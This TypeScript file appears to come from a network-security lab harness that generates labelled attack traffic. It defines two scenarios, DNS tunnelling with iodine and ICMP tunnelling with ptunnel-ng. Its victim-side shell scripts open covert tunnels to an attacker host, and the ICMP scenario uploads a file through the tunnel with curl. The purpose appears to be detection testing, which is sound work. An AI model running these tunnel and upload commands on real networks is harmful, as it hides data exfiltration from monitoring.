import type { Scenario, ScenarioContext } from '../scenario.js';
import { startReceiver } from './receiver.js';

/** What a tunnel carries at each speed: pings a second, or how fast a file is fetched. */
const PINGS = { slow: '1', normal: '0.2', fast: '0.05' };
const RATE = { slow: '20k', normal: '200k', fast: '2M' };
const PASSWORD = 'lab-tunnel';

/** An infected host carries IP in DNS questions straight to its master's name server. */
const iodine: Scenario = {
  name: 'dns-tunnel-iodine',
  summary: 'iodine: IP in DNS questions to a name server outside, pings through it',
  kind: 'attack',
  services: [],
  run: async (context) => {
    const [master = ''] = context.attackers();
    const { attacker, victim } = context.lab.hosts;
    const server = attacker.start('iodined', [
      '-f',
      '-c',
      '-P',
      PASSWORD,
      '-l',
      master,
      '172.30.9.1/27',
      'tunnel.example',
    ]);
    await server.waitForOutput(/Listening to dns/i);
    const facts = { label: 'dns_tunnel', technique: 'T1071.004', sources: [victim.ip4], targets: [master] };
    const count = Math.ceil(context.seconds / Number(context.at(PINGS)));
    const script = [
      `iodine -f -r -P ${PASSWORD} ${master} tunnel.example & tunnel=$!`,
      'for i in $(seq 40); do ip -4 -o address show | grep -q 172.30.9 && break; sleep 0.5; done',
      `ping -q -s 200 -i ${context.at(PINGS)} -c ${count} 172.30.9.1`,
      'kill $tunnel',
    ];
    await context.attack(facts, 'victim', 'bash', ['-c', script.join('\n')]);
    await server.stop();
  },
};

/** An infected host carries TCP in echo requests, and fetches a file through them. */
const pingTunnel: Scenario = {
  name: 'icmp-tunnel-ptunnel',
  summary: 'ptunnel-ng: TCP in echo requests and replies',
  kind: 'attack',
  services: ['web'],
  run: (context) => throughPings(context),
};

async function throughPings(context: ScenarioContext): Promise<void> {
  const { attacker, victim } = context.lab.hosts;
  // The proxy answers from its host's first address, whichever was asked.
  const master = attacker.ip4;
  const receiver = await startReceiver(context.lab);
  const server = attacker.start('ptunnel-ng', ['-r127.0.0.1', '-R80']);
  const facts = { label: 'icmp_tunnel', technique: 'T1095', sources: [victim.ip4], targets: [master] };
  const file = `${context.lab.dir}/www/app.js`;
  const seconds = String(context.seconds);
  const script = [
    `ptunnel-ng -p${master} -l8000 -r127.0.0.1 -R80 & tunnel=$!`,
    'sleep 1',
    `curl -s -o /dev/null -m ${seconds} --limit-rate ${context.at(RATE)} -T ${file} http://127.0.0.1:8000/upload`,
    'kill $tunnel',
  ];
  await context.attack(facts, 'victim', 'bash', ['-c', script.join('\n')]);
  await server.stop();
  await receiver.stop();
}

export const tunnels: readonly Scenario[] = [iodine, pingTunnel];
